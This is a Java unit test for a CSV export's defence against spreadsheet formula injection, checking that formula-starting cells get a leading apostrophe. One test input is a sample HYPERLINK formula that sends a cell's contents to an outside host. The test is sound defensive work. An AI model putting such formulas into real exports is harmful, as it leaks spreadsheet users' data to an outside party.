package nl.dijkwacht.audit.query;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * The CSV export's cells against spreadsheet formula injection (OWASP "CSV injection", ops27): a text starting with
 * {@code = + - @}, a tab or a carriage return is written with a leading {@code '}; the tab and carriage return were
 * missing before ops27. Numbers stay numbers; quoting stays RFC 4180.
 */
class CsvFormulaCellsTest {

    @Test
    void everyFormulaStartGetsALeadingQuote() {
        assertThat(RecordJson.cell("=HYPERLINK(\"https://example.org/?x=\"&A1;\"klik\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"https://example.org/?x=\"\"&A1;\"\"klik\"\")\"");
        assertThat(RecordJson.cell("+1+1")).isEqualTo("'+1+1");
        assertThat(RecordJson.cell("-1+1")).isEqualTo("'-1+1");
        assertThat(RecordJson.cell("@SUM(A1:A2)")).isEqualTo("'@SUM(A1:A2)");
        assertThat(RecordJson.cell("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(RecordJson.cell("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    }

    @Test
    void ordinaryTextAndNumbersAreLeftAlone() {
        assertThat(RecordJson.cell("gemeente")).isEqualTo("gemeente");
        assertThat(RecordJson.cell("a=b")).isEqualTo("a=b");
        assertThat(RecordJson.cell(-3)).isEqualTo("-3");
        assertThat(RecordJson.cell(-0.5)).isEqualTo("-0.5");
        assertThat(RecordJson.cell(null)).isEmpty();
        assertThat(RecordJson.cell("a,b")).isEqualTo("\"a,b\"");
    }
}
